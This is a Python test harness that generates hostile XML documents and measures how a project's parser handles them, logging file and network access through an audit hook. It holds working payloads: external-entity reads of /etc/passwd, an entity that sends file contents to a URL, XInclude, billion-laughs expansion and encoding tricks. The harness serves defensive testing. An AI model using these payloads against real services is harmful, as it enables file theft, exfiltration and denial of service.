"""Documents that do harm to XML parsers that trust them; run as a program it measures what they cost.

``python xml_payloads.py URL FILE`` parses each under an audit hook and prints as JSON what it did.
"""

from __future__ import annotations

import json
import resource
import sys
import time
from typing import Any

XI = "http://www.w3.org/2001/XInclude"
MB = 1024 * 1024


def payloads(url: str, file: str) -> dict[str, bytes]:
    """Return documents by what they try; ``url`` and ``file`` are addresses of things that are there."""
    made = {**_entities(url, file), **_inclusions(url, file), **_expansions(), **_sizes()}
    return {**made, **_encodings(file), **_broken()}


def _entities(url: str, file: str) -> dict[str, bytes]:
    return {
        "entity of a file": _dtd(f'<!ENTITY e SYSTEM "{file}">', "&e;"),
        "entity of a URL": _dtd(f'<!ENTITY e SYSTEM "{url}">', "&e;"),
        "public entity": _dtd(f'<!ENTITY e PUBLIC "-//x" "{url}">', "&e;"),
        "entity of a path": _dtd('<!ENTITY e SYSTEM "/etc/passwd">', "&e;"),
        "entity in an attribute": _dtd(f'<!ENTITY e SYSTEM "{file}"><!ATTLIST r a CDATA "&e;">'),
        "parameter entity of a URL": _dtd(f'<!ENTITY % e SYSTEM "{url}"> %e;'),
        "parameter entity of a file": _dtd(f'<!ENTITY % e SYSTEM "{file}"> %e;'),
        "entity that sends a file": _dtd(
            f'<!ENTITY % f SYSTEM "{file}"><!ENTITY % s "<!ENTITY x SYSTEM \'{url}?%f;\'>"> %s;',
            "&x;",
        ),
        "unparsed entity": _dtd(f'<!NOTATION n SYSTEM "x"><!ENTITY e SYSTEM "{file}" NDATA n>'),
        "external DTD": f'<!DOCTYPE r SYSTEM "{url}"><r/>'.encode(),
        "DTD of a file": f'<!DOCTYPE r SYSTEM "{file}"><r>&e;</r>'.encode(),
        "public DTD": f'<!DOCTYPE r PUBLIC "-//x" "{url}"><r/>'.encode(),
        "harmless entity": _dtd('<!ENTITY e "x">', "&e;"),
        "entity without a DTD": b"<r>&e;</r>",
        "DTD after a megabyte of comment": b"<!--" + b"x" * (MB // 2) + b"-->" + _laughs(8),
    }


def _inclusions(url: str, file: str) -> dict[str, bytes]:
    return {
        "XInclude of a file": f'<r xmlns:x="{XI}"><x:include href="{file}"/></r>'.encode(),
        "XInclude of a URL as text": (
            f'<r><i:include xmlns:i="{XI}" href="{url}" parse="text"/></r>'.encode()
        ),
        "XInclude as the root": f'<include xmlns="{XI}" href="{file}"/>'.encode(),
    }


def _expansions() -> dict[str, bytes]:
    return {
        "billion laughs": _laughs(9),
        "billion laughs in parameters": _dtd(
            '<!ENTITY % a "xxxxxxxxxx">'
            + "".join(f'<!ENTITY % a{n} "{"%a;" * 10}">' for n in range(9))
            + "%a8;"
        ),
        "quadratic blow-up": _dtd(f'<!ENTITY e "{"x" * 60_000}">', "&e;" * 60_000),
        "entity of itself": _dtd('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
        "default attributes": _dtd(f'<!ATTLIST i a CDATA "{"x" * 60_000}">', "<i/>" * 60_000),
    }


def _sizes() -> dict[str, bytes]:
    return {
        "deep nesting": b"<r>" * 200_000,
        "deep nesting that is closed": b"<r>" * 100_000 + b"</r>" * 100_000,
        "elements without end": b"<r>" + b"<i/>" * 5_000_000,
        "a million attributes": b"<r " + b" ".join(b'a%d=""' % n for n in range(10**6)) + b"/>",
        "namespaces without end": (
            b"<r " + b" ".join(b'xmlns:a%d="u"' % n for n in range(200_000)) + b"/>"
        ),
        "one endless attribute": b'<r a="' + b"x" * (20 * MB) + b'"/>',
        "one endless comment": b"<r><!--" + b"x" * (20 * MB) + b"--></r>",
        "more than is read": b"<r>" + b" " * (50 * MB) + b"</r>",
    }


def _encodings(file: str) -> dict[str, bytes]:
    hidden = f'<!DOCTYPE r [<!ENTITY e SYSTEM "{file}">]><r>&e;</r>'
    return {
        "UTF-7": b'<?xml version="1.0" encoding="utf-7"?>' + hidden.encode("utf-7"),
        "UTF-16": hidden.encode("utf-16"),
        "UTF-16 big-endian": b"\xfe\xff" + hidden.encode("utf-16-be"),
        "UTF-16 that says UTF-8": f'<?xml version="1.0" encoding="utf-8"?>{hidden}'.encode(
            "utf-16"
        ),
        "UTF-32": hidden.encode("utf-32"),
        "an encoding that is none": b'<?xml version="1.0" encoding="../../x"?><r/>',
        "an encoding that is a program": b'<?xml version="1.0" encoding="zlib_codec"?><r/>',
        "overlong UTF-8": b"<r>\xc0\xbcscript\xc0\xbe</r>",
        "half a letter": "<r>Αθήνα</r>".encode()[:-5] + b"</r>",
    }


def _broken() -> dict[str, bytes]:
    return {
        "nothing": b"",
        "no XML": b"[]",
        "cut off": b"<r><i>text</i",
        "two roots": b"<r/><r/>",
        "control character": b"<r>\x01</r>",
        "escaped control character": b"<r>&#1;</r>",
        "NUL": b"<r>\x00</r>",
        "lone surrogate": b"<r>&#xD800;</r>",
        "an attribute twice": b'<r a="1" a="2"/>',
        "unknown prefix": b"<x:r/>",
        "a web page": b"<!DOCTYPE html><html><body>Log in<br></body></html>",
    }


def _dtd(declarations: str, body: str = "") -> bytes:
    return f'<?xml version="1.0"?><!DOCTYPE r [{declarations}]><r>{body}</r>'.encode()


def _laughs(levels: int) -> bytes:
    told = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(levels))
    return _dtd(f'<!ENTITY l0 "lol">{told}', f"&l{levels};")


def main(url: str, file: str) -> dict[str, dict[str, Any]]:
    """Parse every document; return what each did: its error, seconds, what it touched, peak memory."""
    from ckanext.municipal.lib import xml

    touched: list[str] = []
    # What the interpreter itself opens is modules of its own.
    own = (sys.prefix, sys.base_prefix)

    def hook(event: str, args: tuple[Any, ...]) -> None:
        if event in ("socket.connect", "socket.getaddrinfo", "urllib.Request") or (
            event == "open" and not str(args[0]).startswith(own)
        ):
            touched.append(f"{event} {args}")

    all_of_them = payloads(url, file)
    sys.addaudithook(hook)
    told: dict[str, dict[str, Any]] = {}
    for name, data in all_of_them.items():
        touched.clear()
        peak, start, error = _peak(), time.process_time(), "none"
        try:
            xml.parse(data)
        except xml.XmlRefused as refused:
            error = f"XmlRefused: {refused}"
        except Exception as other:  # noqa: BLE001 - told to the test
            error = f"{type(other).__name__}: {other}"
        told[name] = {
            "error": error,
            "seconds": time.process_time() - start,
            "touched": list(touched),
            "megabytes": (_peak() - peak) / 1024,
        }
    return told


def _peak() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss


if __name__ == "__main__":
    print(json.dumps(main(*sys.argv[1:])))
